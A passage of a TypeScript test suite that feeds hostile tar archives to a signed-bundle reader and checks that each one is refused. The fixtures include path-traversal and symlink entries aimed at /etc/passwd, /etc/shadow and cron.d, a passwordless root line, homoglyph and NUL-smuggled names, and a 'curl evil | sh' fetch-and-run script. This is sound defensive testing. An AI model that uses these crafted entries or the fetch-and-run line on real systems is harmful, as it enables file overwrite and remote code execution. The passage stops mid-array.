/**
 * The bundle reader against hostile archives. Every fixture starts from a
 * real signed bundle and is rewritten block by block in code (see
 * helpers/tarcraft.ts), then fed to readBundle in many chunkings. Each refusal
 * must carry its stable code, must not read past the point where the refusal
 * is decidable, and must leave every blob sink either committed with exactly
 * the bytes its digest names, or aborted.
 */
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  readBundle,
  type BlobSink,
  type BundleContents,
  type ReadBundleOptions,
} from '../core/bundle/reader.js';
import { parseEnvelope, serializeEnvelope, signEnvelope, type Envelope, type Signer } from '../core/dsse.js';
import { decodeBase64Strict } from '../core/encoding.js';
import { isFerryError, type FerryErrorCode } from '../core/errors.js';
import type { PrivateKey } from '../platform/keyfile.js';
import { MANIFEST_PAYLOAD_TYPE, type Manifest } from '../core/manifest.js';
import { buildBundle, makeKey, makeRootEnvelope, makeWorld, type World } from './helpers/fixtures.js';
import {
  BLOCK,
  END,
  GNU_MAGIC,
  entry,
  header,
  joinArchive,
  padTo512,
  paxRecord,
  splitArchive,
  tarStreamBytes,
  type HeaderFields,
  type ParsedEntry,
  type RawEntry,
  ustarChecksum,
} from './helpers/tarcraft.js';

// ---------------------------------------------------------------------------
// Sources: the same bytes in many chunkings.

/** 0 = the whole file as one chunk. */
const VALID_CHUNKINGS = [0, 1, 7, 511, 512, 513, 1000, 4096, 65_536] as const;
const HOSTILE_CHUNKINGS = [0, 1, 7, 511, 513] as const;

/** Any sequence of buffers as the async source readBundle takes: pulled lazily, each arriving in its own tick. */
async function* lazily(parts: Iterable<Buffer>): AsyncGenerator<Buffer> {
  for (const p of parts) yield await Promise.resolve(p);
}

function* split(bytes: Buffer, size: number): Generator<Buffer> {
  if (size <= 0) {
    yield bytes;
    return;
  }
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
}

const chunks = (bytes: Buffer, size: number) => lazily(split(bytes, size));

/** Empty chunks between the real ones: a source may legally yield them. */
async function* stuttering(bytes: Buffer, size: number): AsyncGenerator<Buffer> {
  for await (const c of chunks(bytes, size)) {
    yield Buffer.alloc(0);
    yield c;
  }
}

/** Chunk sizes from a seeded generator (mulberry32), 1..2000 bytes. */
function* randomSplit(bytes: Buffer, seed: number): Generator<Buffer> {
  let s = seed >>> 0;
  const next = () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  for (let i = 0; i < bytes.length;) {
    const n = 1 + Math.floor(next() * 2000);
    yield bytes.subarray(i, i + n);
    i += n;
  }
}

const randomChunks = (bytes: Buffer, seed: number) => lazily(randomSplit(bytes, seed));

/** Yields the first `limit` bytes; pulling any further fails the test with a plain Error. */
async function* guarded(bytes: Buffer, limit: number, size: number): AsyncGenerator<Buffer> {
  yield* chunks(bytes.subarray(0, limit), size);
  throw new Error(`the reader pulled past byte ${limit}, where it should already have refused`);
}

// ---------------------------------------------------------------------------
// Sinks that remember everything they were given.

interface SinkRecord {
  digest: string;
  size: number;
  writes: Buffer[];
  committed: boolean;
  aborted: boolean;
}

function recorder(): { opened: SinkRecord[]; openBlob: NonNullable<ReadBundleOptions['openBlob']> } {
  const opened: SinkRecord[] = [];
  const openBlob = (digest: string, size: number): Promise<BlobSink> => {
    const rec: SinkRecord = { digest, size, writes: [], committed: false, aborted: false };
    opened.push(rec);
    return Promise.resolve({
      write: (c: Buffer) => void rec.writes.push(Buffer.from(c)),
      commit: () => {
        rec.committed = true;
        return Promise.resolve();
      },
      abort: () => {
        rec.aborted = true;
        return Promise.resolve();
      },
    });
  };
  return { opened, openBlob };
}

const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

/** Every sink ends settled: committed with exactly its digest's bytes, or aborted; never both. */
function expectSinksSettled(opened: readonly SinkRecord[], label: string): void {
  for (const rec of opened) {
    expect(rec.committed !== rec.aborted, `${label}: sink ${rec.digest} committed xor aborted`).toBe(true);
    if (rec.committed) {
      const got = Buffer.concat(rec.writes);
      expect(got.length, `${label}: committed sink ${rec.digest} size`).toBe(rec.size);
      expect(sha256(got), `${label}: committed sink ${rec.digest} digest`).toBe(rec.digest);
    }
  }
}

// ---------------------------------------------------------------------------
// The world and the valid bundle every hostile one is made from.

let w: World;
let mallory: PrivateKey;
/** manifest.dsse.json, root/2, root/3, then three blobs (the first is 70 000 bytes). */
let bundle: Buffer;
let entries: ParsedEntry[];
let volumes: { bytes: Buffer; blobs: string[] }[];
let allVolumeBlobs: string[];

const TRUST = (): ReadBundleOptions => ({ trusted: w.root, site: 'plant-7' });
const manifestEntry = () => entries[0]!;
const rootEntries = () => entries.filter((e) => e.name.startsWith('root/'));
const blobEntries = () => entries.filter((e) => e.name.startsWith('blobs/'));
const agent = () => blobEntries()[0]!;
const digestOf = (e: { name: string }) => e.name.slice('blobs/sha256/'.length);
/** Everything after the manifest, unchanged. */
const afterManifest = () => entries.slice(1);

beforeAll(async () => {
  w = await makeWorld();
  mallory = await makeKey(join(w.dir, 'intruder'), 'mallory');
  const roots = [2, 3].map((version) => ({
    version,
    bytes: Buffer.from(
      serializeEnvelope(makeRootEnvelope({ version, rootKeys: [w.rootKey], bundleKeys: [w.bundleKey] })),
    ),
  }));
  const out = join(w.dir, 'release.ferry');
  await buildBundle(w, out, { roots });
  bundle = await readFile(out);
  entries = splitArchive(bundle).entries;

  const vol = await buildBundle(w, join(w.dir, 'split.ferry'), {
    artifacts: ['a', 'b', 'c'].map((n) => ({
      name: `part-${n}`,
      kind: 'file' as const,
      content: Buffer.alloc(5000, n),
    })),
    volumeSize: 10_000,
  });
  volumes = await Promise.all(
    vol.volumes.map(async (v) => ({ bytes: await readFile(v.path), blobs: v.blobs })),
  );
  allVolumeBlobs = vol.manifest.artifacts.map((a) => a.sha256);
});

afterAll(async () => {
  await w.cleanup();
});

// ---------------------------------------------------------------------------
// Bundle surgery.

/** An existing entry with its header re-encoded; the body is kept unless replaced. */
function reheader(e: ParsedEntry, fields: Partial<HeaderFields>, body: Buffer = e.body): RawEntry {
  return { header: header({ name: e.name, size: body.length, ...fields }), body };
}

/** Offset just past the header of entries[i] once the list is joined. */
function headerEnd(list: readonly RawEntry[], i: number): number {
  let at = 0;
  for (const e of list.slice(0, i))
    at += BLOCK + e.body.length + (e.padding ?? Buffer.alloc(padTo512(e.body.length))).length;
  return at + BLOCK;
}

function manifestPayload(): Manifest {
  const env = parseEnvelope(manifestEntry().body);
  return JSON.parse(decodeBase64Strict(env.payload).toString('utf8')) as Manifest;
}

function signedManifest(payload: Buffer, signers: readonly Signer[]): RawEntry {
  const env: Envelope = signEnvelope(MANIFEST_PAYLOAD_TYPE, payload, signers);
  return entry({ name: 'manifest.dsse.json' }, serializeEnvelope(env));
}

// ---------------------------------------------------------------------------
// Reading and expecting.

interface Outcome {
  code: string;
  message?: string;
}

async function outcome(p: Promise<unknown>): Promise<Outcome> {
  try {
    await p;
    return { code: 'ACCEPTED' };
  } catch (e) {
    if (isFerryError(e)) return { code: e.code, message: e.message };
    return { code: 'NOT A FerryError', message: String(e) };
  }
}

interface Refusal {
  code: FerryErrorCode;
  opts?: ReadBundleOptions;
  /** The refusal is decidable here: the reader must not pull a byte beyond. */
  readLimit?: number;
  /** A blob whose sink must never be committed. */
  bad?: string;
  /** Refused before any blob reaches a sink: openBlob is never called. */
  noSinks?: boolean;
  chunkings?: readonly number[];
}

/** Reads `bytes` in every chunking and checks the code and the sinks each time. */
async function expectRefused(bytes: Buffer, r: Refusal): Promise<SinkRecord[][]> {
  const all: SinkRecord[][] = [];
  for (const size of r.chunkings ?? HOSTILE_CHUNKINGS) {
    const label = `chunk size ${size || 'whole'}`;
    const rec = recorder();
    const source = r.readLimit === undefined ? chunks(bytes, size) : guarded(bytes, r.readLimit, size);
    const got = await outcome(readBundle(source, { ...TRUST(), ...r.opts, openBlob: rec.openBlob }));
    expect(got.code, `${label}: ${got.message ?? 'read accepted'}`).toBe(r.code);
    expectSinksSettled(rec.opened, label);
    if (r.bad !== undefined) {
      const bad = r.bad;
      expect(
        rec.opened.filter((s) => s.digest === bad && s.committed),
        `${label}: sink committed for ${bad}`,
      ).toEqual([]);
    }
    if (r.noSinks)
      expect(
        rec.opened.map((s) => s.digest),
        `${label}: sinks opened`,
      ).toEqual([]);
    all.push(rec.opened);
  }
  return all;
}

function expectValid(res: BundleContents, bytes: Buffer, label: string): void {
  expect(res.verified, label).toBe(true);
  expect(res.blobs, label).toEqual(blobEntries().map(digestOf));
  expect(res.missing, label).toEqual([]);
  expect(res.complete, label).toBe(true);
  expect(res.bytes, label).toBe(bytes.length);
  expect(res.adoptedRoots, label).toEqual([2, 3]);
  expect(
    res.rootEntries.map((r) => r.version),
    label,
  ).toEqual([2, 3]);
  expect(res.envelopeBytes.equals(manifestEntry().body), label).toBe(true);
}

// ===========================================================================

describe('a valid bundle', () => {
  test('the guarded source fails a read that needs a byte past its limit (so readLimit checks can fail)', async () => {
    for (const size of HOSTILE_CHUNKINGS) {
      expect(await outcome(readBundle(guarded(bundle, bundle.length - 1, size), TRUST()))).toMatchObject({
        code: 'NOT A FerryError',
        message: expect.stringContaining('pulled past byte') as unknown,
      });
    }
  });

  test('the fixture has the shape the hostile cases rely on', () => {
    expect(entries.map((e) => e.name.replace(/[0-9a-f]{64}$/, 'H'))).toEqual([
      'manifest.dsse.json',
      'root/2.root.json',
      'root/3.root.json',
      'blobs/sha256/H',
      'blobs/sha256/H',
      'blobs/sha256/H',
    ]);
    expect(agent().body.length).toBe(70_000);
    expect(joinArchive(entries).equals(bundle)).toBe(true);
  });

  test.each(VALID_CHUNKINGS)('is read whole in chunks of %i bytes (0 = one chunk)', async (size) => {
    const rec = recorder();
    const res = await readBundle(chunks(bundle, size), { ...TRUST(), openBlob: rec.openBlob });
    expectValid(res, bundle, `chunk ${size}`);
    expect(
      rec.opened.map((s) => [s.digest, s.committed]),
      'every blob committed',
    ).toEqual(res.blobs.map((d) => [d, true]));
    expectSinksSettled(rec.opened, `chunk ${size}`);
  });

  test('is read whole with empty chunks in between and with random chunk sizes', async () => {
    expectValid(await readBundle(stuttering(bundle, 333), TRUST()), bundle, 'stuttering');
    for (const seed of [1, 2, 3, 42, 1337]) {
      const rec = recorder();
      const res = await readBundle(randomChunks(bundle, seed), { ...TRUST(), openBlob: rec.openBlob });
      expectValid(res, bundle, `seed ${seed}`);
      expectSinksSettled(rec.opened, `seed ${seed}`);
    }
  });

  test('tolerates zero blocks after the end-of-archive marker (tar record padding)', async () => {
    const padded = Buffer.concat([bundle, Buffer.alloc(9 * BLOCK)]);
    expectValid(await readBundle(chunks(padded, 513), TRUST()), padded, 'record padding');
  });

  test('each volume reports the blobs it holds and the ones it lacks', async () => {
    expect(volumes.length).toBeGreaterThanOrEqual(2);
    const seen: string[] = [];
    for (const [i, v] of volumes.entries()) {
      for (const size of [0, 7, 513]) {
        const res = await readBundle(chunks(v.bytes, size), TRUST());
        expect(res.blobs, `volume ${i}`).toEqual(v.blobs);
        expect([...res.missing].sort(), `volume ${i}`).toEqual(
          allVolumeBlobs.filter((d) => !v.blobs.includes(d)).sort(),
        );
        expect(res.complete, `volume ${i}`).toBe(false);
      }
      seen.push(...v.blobs);
    }
    expect(seen.sort()).toEqual([...allVolumeBlobs].sort());
  });
});

// ===========================================================================

describe('entry types other than a regular file => ENTRY_TYPE_FORBIDDEN', () => {
  const target = () => `blobs/sha256/${digestOf(agent())}`;
  const TYPE_CASES: { attack: string; make: () => RawEntry }[] = [
    {
      attack: 'hard link to the manifest',
      make: () => entry({ name: target(), typeflag: '1', linkname: 'manifest.dsse.json' }),
    },
    {
      attack: 'symbolic link to /etc/shadow',
      make: () => entry({ name: target(), typeflag: '2', linkname: '/etc/shadow' }),
    },
    { attack: 'character device', make: () => entry({ name: target(), typeflag: '3' }) },
    { attack: 'block device', make: () => entry({ name: target(), typeflag: '4' }) },
    { attack: 'directory', make: () => entry({ name: 'blobs/', typeflag: '5' }) },
    { attack: 'FIFO', make: () => entry({ name: target(), typeflag: '6' }) },
    { attack: 'contiguous file', make: () => entry({ name: target(), typeflag: '7' }, agent().body) },
    {
      attack: 'pax extended header renaming the next entry',
      make: () => entry({ name: 'PaxHeader/x', typeflag: 'x' }, paxRecord('path', '../../etc/cron.d/evil')),
    },
    {
      attack: 'pax global header',
      make: () => entry({ name: 'pax_global_header', typeflag: 'g' }, paxRecord('path', '/etc/passwd')),
    },
    {
      attack: 'GNU long name',
      make: () => entry({ name: '././@LongLink', typeflag: 'L' }, `${'../'.repeat(40)}etc/passwd\0`),
    },
    {
      attack: 'GNU long link name',
      make: () => entry({ name: '././@LongLink', typeflag: 'K' }, `${'../'.repeat(40)}etc/shadow\0`),
    },
    { attack: 'GNU sparse file', make: () => entry({ name: target(), typeflag: 'S' }, agent().body) },
    { attack: 'unknown type flag "Z"', make: () => entry({ name: target(), typeflag: 'Z' }) },
  ];

  describe.each(['first', 'after the manifest'] as const)('placed %s', (where) => {
    test.each(TYPE_CASES)('$attack', async ({ make }) => {
      const list =
        where === 'first'
          ? [make(), manifestEntry(), ...afterManifest()]
          : [manifestEntry(), make(), ...afterManifest()];
      const at = where === 'first' ? 0 : 1;
      await expectRefused(joinArchive(list), {
        code: 'ENTRY_TYPE_FORBIDDEN',
        readLimit: headerEnd(list, at),
        noSinks: true,
      });
    });
  });

  const TAR_STREAM_CASES: { attack: string; bytes: () => Promise<Buffer> }[] = [
    {
      attack: 'hard link',
      bytes: () => tarStreamBytes([{ header: { name: 'x', type: 'link', linkname: 'manifest.dsse.json' } }]),
    },
    {
      attack: 'symbolic link',
      bytes: () => tarStreamBytes([{ header: { name: 'x', type: 'symlink', linkname: '/etc' } }]),
    },
    {
      attack: 'character device',
      bytes: () =>
        tarStreamBytes([{ header: { name: 'mem', type: 'character-device', devmajor: 1, devminor: 1 } }]),
    },
    {
      attack: 'block device',
      bytes: () =>
        tarStreamBytes([{ header: { name: 'sda', type: 'block-device', devmajor: 8, devminor: 0 } }]),
    },
    { attack: 'directory', bytes: () => tarStreamBytes([{ header: { name: 'blobs', type: 'directory' } }]) },
    { attack: 'FIFO', bytes: () => tarStreamBytes([{ header: { name: 'pipe', type: 'fifo' } }]) },
    {
      attack: 'pax header (name too long for ustar)',
      bytes: () =>
        tarStreamBytes([{ header: { name: `blobs/${'x'.repeat(300)}`, size: 1 }, body: Buffer.from('x') }]),
    },
    {
      attack: 'pax header set explicitly (path override)',
      bytes: () =>
        tarStreamBytes([
          { header: { name: 'x', size: 1, pax: { path: '../../etc/passwd' } }, body: Buffer.from('x') },
        ]),
    },
  ];

  describe.each(['first', 'after the manifest'] as const)('written by tar-stream, placed %s', (where) => {
    test.each(TAR_STREAM_CASES)('$attack', async ({ bytes }) => {
      const hostile = await bytes();
      const head = where === 'first' ? Buffer.alloc(0) : joinArchive([manifestEntry()], Buffer.alloc(0));
      const tail = joinArchive(where === 'first' ? [manifestEntry(), ...afterManifest()] : afterManifest());
      await expectRefused(Buffer.concat([head, hostile, tail]), {
        code: 'ENTRY_TYPE_FORBIDDEN',
        readLimit: head.length + BLOCK,
        noSinks: true,
      });
    });
  });
});

// ===========================================================================

describe('entry names outside the format => ENTRY_NAME_FORBIDDEN', () => {
  const hex = () => digestOf(agent());
  /** Fullwidth forms of 0-9 a-f: look the same, are different code points. */
  const fullwidth = (s: string) => String.fromCharCode(s.charCodeAt(0) + 0xfee0) + s.slice(1);
  const NAME_CASES: { attack: string; make: () => RawEntry }[] = [
    {
      attack: 'absolute path /etc/passwd',
      make: () => entry({ name: '/etc/passwd' }, 'root::0:0::/:/bin/sh\n'),
    },
    { attack: 'absolute blob path', make: () => reheader(agent(), { name: `/blobs/sha256/${hex()}` }) },
    { attack: 'parent directory ../x', make: () => entry({ name: '../x' }, 'x') },
    {
      attack: 'traversal back onto the manifest',
      make: () => entry({ name: 'blobs/../manifest.dsse.json' }, 'x'),
    },
    {
      attack: 'deep traversal out of blobs/',
      make: () => entry({ name: 'blobs/sha256/../../../etc/cron.d/x' }, 'x'),
    },
    { attack: 'backslash separators', make: () => reheader(agent(), { name: `blobs\\sha256\\${hex()}` }) },
    { attack: 'Windows drive path', make: () => entry({ name: 'C:/Windows/System32/x.dll' }, 'x') },
    {
      attack: 'NUL inside the name field, then a hidden tail',
      make: () => entry({ name: Buffer.from('manifest.dsse.json\0/../../etc/passwd', 'latin1') }, 'x'),
    },
    {
      attack: 'NUL after a valid blob name, then a hidden tail',
      make: () => reheader(agent(), { name: Buffer.from(`blobs/sha256/${hex()}\0evil`, 'latin1') }),
    },
    { attack: 'newline in the name', make: () => entry({ name: 'extra\n.txt' }, 'x') },
    { attack: 'terminal escape in the name', make: () => entry({ name: '\x1b[2Jmanifest.dsse.json' }, 'x') },
    { attack: 'DEL in the name', make: () => entry({ name: 'root/\x7f.root.json' }, 'x') },
    { attack: 'empty name', make: () => entry({ name: '' }, 'x') },
    { attack: '"." component', make: () => entry({ name: './manifest.dsse.json' }, 'x') },
    {
      attack: 'trailing slash on a blob name',
      make: () => reheader(agent(), { name: `blobs/sha256/${hex()}/` }),
    },
    {
      attack: 'doubled slash in a blob name',
      make: () => reheader(agent(), { name: `blobs//sha256/${hex()}` }),
    },
    { attack: 'invalid UTF-8', make: () => entry({ name: Buffer.from([0x62, 0xff, 0xfe, 0x78]) }, 'x') },
    { attack: 'unknown name extra.txt', make: () => entry({ name: 'extra.txt' }, 'hello') },
    {
      attack: 'uppercase hex blob name',
      make: () => reheader(agent(), { name: `blobs/sha256/${hex().toUpperCase()}` }),
    },
    {
      attack: 'short blob name (63 hex)',
      make: () => entry({ name: `blobs/sha256/${hex().slice(1)}` }, 'x'),
    },
    { attack: 'other hash algorithm', make: () => entry({ name: `blobs/sha512/${hex()}` }, 'x') },
    {
      attack: 'case collision Manifest.dsse.json',
      make: () => entry({ name: 'Manifest.dsse.json' }, manifestEntry().body),
    },
    {
      attack: 'case collision MANIFEST.DSSE.JSON',
      make: () => entry({ name: 'MANIFEST.DSSE.JSON' }, manifestEntry().body),
    },
    {
      attack: 'root version with a leading zero (alias of root/2)',
      make: () => reheader(rootEntries()[0]!, { name: 'root/02.root.json' }),
    },
    { attack: 'root version 0', make: () => reheader(rootEntries()[0]!, { name: 'root/0.root.json' }) },
    {
      attack: 'fullwidth look-alike manifest',
      make: () => entry({ name: fullwidth('manifest.dsse.json') }, manifestEntry().body),
    },
    {
      attack: 'combining accent look-alike manifest',
      make: () => entry({ name: 'manife\u0301st.dsse.json' }, manifestEntry().body),
    },
    {
      attack: 'zero-width space in the manifest name',
      make: () => entry({ name: 'manifest\u200b.dsse.json' }, manifestEntry().body),
    },
    {
      attack: 'fullwidth digit look-alike blob name',
      make: () => reheader(agent(), { name: `blobs/sha256/${fullwidth(hex())}` }),
    },
    {
      attack: 'Cyrillic look-alike in blobs/',
      make: () => reheader(agent(), { name: `bl\u043ebs/sha256/${hex()}` }),
    },
    {
      attack: 'ustar prefix field spelling a valid blob name',
      make: () => reheader(agent(), { name: hex(), prefix: 'blobs/sha256' }),
    },
    { attack: 'ustar prefix field with ..', make: () => entry({ name: 'x', prefix: '..' }, 'x') },
    {
      attack: 'ustar prefix field with an absolute path',
      make: () => entry({ name: 'passwd', prefix: '/etc' }, 'x'),
    },
    {
      attack: 'NUL inside the prefix field, then a hidden tail',
      make: () => entry({ name: 'x', prefix: Buffer.from('blobs\0/../..', 'latin1') }, 'x'),
    },
  ];

  test.each(NAME_CASES)('$attack, after the manifest', async ({ make }) => {
    const list = [manifestEntry(), make(), ...afterManifest()];
    await expectRefused(joinArchive(list), {
      code: 'ENTRY_NAME_FORBIDDEN',
      readLimit: headerEnd(list, 1),
      noSinks: true,
    });
  });

  test('every one of those names is refused as a name (not as ENTRY_ORDER) when it is the first entry', async () => {
    const misreported: string[] = [];
    for (const { attack, make } of NAME_CASES) {
      const list = [make(), manifestEntry(), ...afterManifest()];
      const got = await outcome(readBundle(guarded(joinArchive(list), BLOCK, 0), TRUST()));
      if (got.code !== 'ENTRY_NAME_FORBIDDEN') misreported.push(`${attack}: ${got.code}`);
    }
    expect(misreported).toEqual([]);
  });
});

// ===========================================================================

describe('duplicates => ENTRY_DUPLICATE', () => {
  test('the manifest twice in a row', async () => {
    const list = [manifestEntry(), manifestEntry(), ...afterManifest()];
    await expectRefused(joinArchive(list), {
      code: 'ENTRY_DUPLICATE',
      readLimit: headerEnd(list, 1),
      noSinks: true,
    });
  });

  test('a second manifest after the blobs', async () => {
    const list = [...entries, manifestEntry()];
    await expectRefused(joinArchive(list), {
      code: 'ENTRY_DUPLICATE',
      readLimit: headerEnd(list, list.length - 1),
    });
  });

  test('the same blob twice: the second copy never reaches a sink', async () => {
    const list = [manifestEntry(), ...rootEntries(), agent(), agent(), ...blobEntries().slice(1)];
    const runs = await expectRefused(joinArchive(list), {
      code: 'ENTRY_DUPLICATE',
      readLimit: headerEnd(list, 4),
    });
    for (const opened of runs) expect(opened.filter((s) => s.digest === digestOf(agent()))).toHaveLength(1);
  });

  test('the same root envelope twice', async () => {
    const [r2, r3] = rootEntries();
    const list = [manifestEntry(), r2!, r2!, r3!, ...blobEntries()];
    await expectRefused(joinArchive(list), {
      code: 'ENTRY_DUPLICATE',
      readLimit: headerEnd(list, 2),
      noSinks: true,
    });
  });
});

// ===========================================================================

describe('order => ENTRY_ORDER', () => {
  const CASES: { attack: string; list: () => ParsedEntry[]; at: number }[] = [
    {
      attack: 'blob before the manifest',
      list: () => [agent(), manifestEntry(), ...afterManifest().filter((e) => e !== agent())],
      at: 0,
    },
    {
      attack: 'root envelope before the manifest',
      list: () => [rootEntries()[0]!, manifestEntry(), rootEntries()[1]!, ...blobEntries()],
      at: 0,
    },
    {
      attack: 'root envelope after a blob',
      list: () => [manifestEntry(), rootEntries()[0]!, agent(), rootEntries()[1]!, ...blobEntries().slice(1)],
      at: 3,
    },
    {
      attack: 'root envelopes descending',
      list: () => [manifestEntry(), rootEntries()[1]!, rootEntries()[0]!, ...blobEntries()],
      at: 2,
    },
  ];
  test.each(CASES)('$attack', async ({ list, at }) => {
    const l = list();
    const runs = await expectRefused(joinArchive(l), { code: 'ENTRY_ORDER', readLimit: headerEnd(l, at) });
    const blobsBefore = l.slice(0, at).filter((e) => e.name.startsWith('blobs/'));
    for (const opened of runs) expect(opened.map((s) => s.digest)).toEqual(blobsBefore.map(digestOf));
  });
});

// ===========================================================================

describe('blobs against the signed manifest', () => {
  test('a blob the manifest does not name => ENTRY_NOT_IN_MANIFEST', async () => {
    const intruder = Buffer.from('#!/bin/sh\ncurl evil | sh\n');
    const list = [
      manifestEntry(),
      ...rootEntries(),
      entry({ name: `blobs/sha256/${sha256(intruder)}` }, intruder),
      ...blobEntries(),
    ];
    await expectRefused(joinArchive(list), {
      code: 'ENTRY_NOT_IN_MANIFEST',
      readLimit: headerEnd(list, 3),
      noSinks: true,
    });
  });

  const SIZE_CASES: { attack: string; code: FerryErrorCode; make: () => RawEntry }[] = [
    {
      attack: 'one byte more than the manifest says',
      code: 'ENTRY_TOO_LARGE',
      make: () => reheader(agent(), {}, Buffer.concat([agent().body, Buffer.from('!')])),
    },
    {
      attack: 'base-256 size of 2^45 (32 TiB) on a small blob',
      code: 'ENTRY_TOO_LARGE',
      make: () => ({
        header: header({ name: agent().name, size: 2n ** 45n, sizeEncoding: 'base256' }),
        body: agent().body,
      }),
    },
    {
      attack: 'base-256 size beyond 2^53',
      code: 'ENTRY_TOO_LARGE',
      make: () => ({
        header: header({ name: agent().name, size: 2n ** 80n, sizeEncoding: 'base256' }),
        body: agent().body,
      }),
    },
    {
      attack: 'octal size of 8^11-1 (8 GiB)',
      code: 'ENTRY_TOO_LARGE',
      make: () => ({ header: header({ name: agent().name, size: 8 ** 11 - 1 }), body: agent().body }),
    },
    {
      attack: 'one byte less than the manifest says',
      code: 'BLOB_SIZE_MISMATCH',
      make: () => reheader(agent(), {}, agent().body.subarray(1)),
    },
    {
      attack: 'empty where the manifest names 70 000 bytes',
      code: 'BLOB_SIZE_MISMATCH',
      make: () => reheader(agent(), {}, Buffer.alloc(0)),
    },
  ];
  test.each(SIZE_CASES)('$attack => $code, refused at the header', async ({ code, make }) => {
    const list = [manifestEntry(), ...rootEntries(), make(), ...blobEntries().slice(1)];
    await expectRefused(joinArchive(list), {
      code,
      readLimit: headerEnd(list, 3),
      noSinks: true,
      bad: digestOf(agent()),
    });
  });

  const flip = (b: Buffer, at: number) => {
    const c = Buffer.from(b);
    c[at] = c[at]! ^ 0x01;
    return c;
  };
  test.each([
    { where: 'first byte', at: 0 },
    { where: 'a middle byte', at: 35_000 },
    { where: 'last byte', at: 69_999 },
  ])(
    'same size, $where altered => BLOB_DIGEST_MISMATCH, the sink aborted and never committed',
    async ({ at }) => {
      const list = [
        manifestEntry(),
        ...rootEntries(),
        reheader(agent(), {}, flip(agent().body, at)),
        ...blobEntries().slice(1),
      ];
      const runs = await expectRefused(joinArchive(list), {
        code: 'BLOB_DIGEST_MISMATCH',
        bad: digestOf(agent()),
      });
      for (const opened of runs) {
        expect(opened.map((s) => [s.digest, s.committed, s.aborted])).toEqual([
          [digestOf(agent()), false, true],
        ]);
      }
    },
  );

  test('an altered last blob: the earlier, intact blobs commit; the altered one aborts', async () => {
    const last = blobEntries().at(-1)!;
    const list = [...entries.slice(0, -1), reheader(last, {}, flip(last.body, 0))];
    const runs = await expectRefused(joinArchive(list), {
      code: 'BLOB_DIGEST_MISMATCH',
      bad: digestOf(last),
    });
    for (const opened of runs) {
      expect(opened.map((s) => s.committed)).toEqual([true, true, false]);
      expect(opened.at(-1)!.aborted).toBe(true);
    }
  });

  test('a signed manifest naming a 1 TiB blob: the body is streamed in slices, never gathered', async () => {
    const huge = {
      name: 'disk-image',
      kind: 'file' as const,
      version: '1',
      sha256: sha256('not really'),
      size: 2 ** 40,
    };
    const payload = { ...manifestPayload(), artifacts: [...manifestPayload().artifacts, huge] };
    const head = joinArchive(
      [
        signedManifest(Buffer.from(JSON.stringify(payload)), [w.bundleKey]),
        ...rootEntries(),
        {
          header: header({ name: `blobs/sha256/${huge.sha256}`, size: 2n ** 40n, sizeEncoding: 'base256' }),
          body: Buffer.alloc(0),
          padding: Buffer.alloc(0),
        },
      ],
      Buffer.alloc(0),
    );
    const CHUNK = 64 * 1024;
    const CHUNKS = 128; // 8 MiB of body, then the source ends
    let yielded = 0;
    const source = function* () {
      yielded += head.length;
      yield head;
      for (let i = 0; i < CHUNKS; i++) {
        yielded += CHUNK;
        yield Buffer.alloc(CHUNK, i);
      }
    };
    const rec = recorder();
    let firstWriteAt = -1;
    let largestWrite = 0;
    const got = await outcome(
      readBundle(lazily(source()), {
        ...TRUST(),
        openBlob: async (digest, size) => {
          const sink = (await rec.openBlob(digest, size))!;
          return {
            ...sink,
            write: (c: Buffer) => {
              if (firstWriteAt < 0) firstWriteAt = yielded;
              largestWrite = Math.max(largestWrite, c.length);
              return sink.write(c);
            },
          };
        },
      }),
    );
    expect(got).toMatchObject({ code: 'TAR_TRUNCATED' });
    expect(rec.opened.map((s) => [s.digest, s.size, s.committed, s.aborted])).toEqual([
      [huge.sha256, 2 ** 40, false, true],
    ]);
    expect(firstWriteAt).toBe(head.length + CHUNK);
    expect(largestWrite).toBeLessThanOrEqual(CHUNK);
    expect(Buffer.concat(rec.opened[0]!.writes).length).toBe(CHUNK * CHUNKS);
  });
});

// ===========================================================================

describe('tar framing', () => {
  test('an empty file => TAR_INVALID', async () => {
    await expectRefused(Buffer.alloc(0), { code: 'TAR_INVALID', chunkings: [0] });
  });

  test('an archive with no entries (only the end marker) => TAR_INVALID', async () => {
    await expectRefused(END, { code: 'TAR_INVALID' });
  });

  test('a lone zero block => TAR_TRUNCATED', async () => {
    await expectRefused(Buffer.alloc(BLOCK), { code: 'TAR_TRUNCATED' });
  });

  test('truncated at every interesting offset => TAR_TRUNCATED, any partial blob aborted', async () => {
    const offsets = new Set<number>();
    for (const e of entries) {
      const o = e.offset;
      const s = e.body.length;
      const p = padTo512(s);
      for (const d of [
        1,
        100,
        511,
        512,
        513,
        512 + Math.floor(s / 2),
        512 + s - 1,
        512 + s,
        512 + s + p - 1,
        512 + s + p,
      ])
        offsets.add(o + d);
    }
    const eof = bundle.length - END.length;
    for (const d of [0, 1, 511, 512, 513, 1023]) offsets.add(eof + d);
    for (let o = 1; o < bundle.length; o += 1021) offsets.add(o);
    const cuts = [...offsets].filter((o) => o > 0 && o < bundle.length).sort((a, b) => a - b);
    expect(cuts.length).toBeGreaterThan(100);
    for (const cut of cuts) {
      const inside = blobEntries().find(
        (e) => cut > e.offset + BLOCK && cut < e.offset + BLOCK + e.body.length,
      );
      await expectRefused(bundle.subarray(0, cut), {
        code: 'TAR_TRUNCATED',
        chunkings: [0, 7, 513],
        ...(inside && { bad: digestOf(inside) }),
      });
    }
  });

  test('truncated inside a blob body: the sink is aborted', async () => {
    const cut = agent().offset + BLOCK + 40_000;
    const runs = await expectRefused(bundle.subarray(0, cut), {
      code: 'TAR_TRUNCATED',
      bad: digestOf(agent()),
    });
    for (const opened of runs) expect(opened.map((s) => [s.committed, s.aborted])).toEqual([[false, true]]);
  });

  /** The bundle with one bit flipped and the header checksum left as it was. */
  const flipBit = (at: number) => {
    const c = Buffer.from(bundle);
    c[at] = c[at]! ^ 0x01;
    return c;
  };
  const manifestFields = () => ({ name: 'manifest.dsse.json', size: manifestEntry().body.length });
  const CORRUPT: { attack: string; code: FerryErrorCode; bytes: () => Buffer; readLimit: () => number }[] = [
    {
      attack: 'manifest header checksum off by one',
